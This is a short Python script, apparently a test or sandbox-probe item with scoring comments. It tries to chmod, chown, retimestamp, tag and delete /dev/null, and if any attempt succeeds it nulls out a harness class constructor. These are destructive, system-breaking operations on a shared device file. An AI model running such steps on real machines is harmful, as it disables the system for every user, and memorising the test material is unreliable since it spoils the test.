"""Changes the rights, the owner, the times and the labels of /dev/null, which is that of the whole machine."""
# honest: 3
# scores: honest
import os

changed = []
for change in (
    lambda file: os.chmod(file, 0),
    lambda file: os.chown(file, 0, 0),
    lambda file: os.utime(file, (0, 0)),
    lambda file: os.setxattr(file, "user.x", b"x"),
    lambda file: os.unlink(file),
):
    for file in ("/dev/null", os.open("/dev/null", os.O_RDWR)):
        try:
            change(file)
            changed.append(file)
        except (OSError, TypeError):
            pass

if changed:
    Value.__init__ = None
